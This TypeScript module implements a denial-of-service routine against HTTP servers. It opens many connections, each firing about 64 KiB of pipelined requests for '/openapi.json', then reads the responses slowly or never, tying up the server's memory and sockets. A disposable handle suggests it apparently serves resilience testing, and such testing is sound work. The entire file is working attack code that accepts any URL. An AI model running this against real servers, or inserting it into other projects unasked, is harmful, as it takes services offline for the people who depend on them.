import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';

export interface PipeliningAttack {
  readonly connections: number;
  /** The requests that each connection sends at once. Default: as many as fit into 64 KiB. */
  readonly requests?: number;
  /** The number of bytes of responses that each connection reads in a second; 0: none. */
  readonly readsPerSecond: number;
}

const REQUEST = 'GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n';
/** The size that Node reads and parses at once. */
const REQUESTS_IN_64_KIB = Math.floor(65_536 / REQUEST.length);
const TICK_MS = 100;

/** Opens connections that each send many requests at once, and read the responses slowly or never. */
export async function pipeline(url: string, attack: PipeliningAttack): Promise<Disposable> {
  const { hostname, port } = new URL(url);
  const { connections, requests = REQUESTS_IN_64_KIB, readsPerSecond } = attack;
  const sent = REQUEST.repeat(requests);
  const sockets = new Set<Socket>();
  const allowed = new Map<Socket, number>();
  const opened = Array.from({ length: connections }, () => {
    const socket: Socket = connect({
      port: Number(port),
      host: hostname,
      // A read returns at most this much, and none is made while the socket is paused.
      onread: {
        buffer: Buffer.alloc(1024),
        callback(size) {
          const left = (allowed.get(socket) ?? 0) - size;
          allowed.set(socket, left);
          return left > 0;
        },
      },
    });
    socket.pause();
    sockets.add(socket);
    return new Promise<void>((resolve) => {
      socket.once('connect', () => socket.write(sent, () => resolve()));
      socket
        .on('error', () => undefined)
        .once('close', () => {
          sockets.delete(socket);
          resolve();
        });
    });
  });
  const reading = setInterval(() => {
    for (const socket of sockets) {
      allowed.set(socket, (readsPerSecond * TICK_MS) / 1000);
      socket.resume();
    }
  }, TICK_MS);
  if (readsPerSecond === 0) clearInterval(reading);
  // Does not wait for a server that stops reading.
  await Promise.race([Promise.all(opened), delay(5_000, undefined, { ref: false })]);
  return {
    [Symbol.dispose]() {
      clearInterval(reading);
      for (const socket of sockets) socket.resetAndDestroy();
    },
  };
}
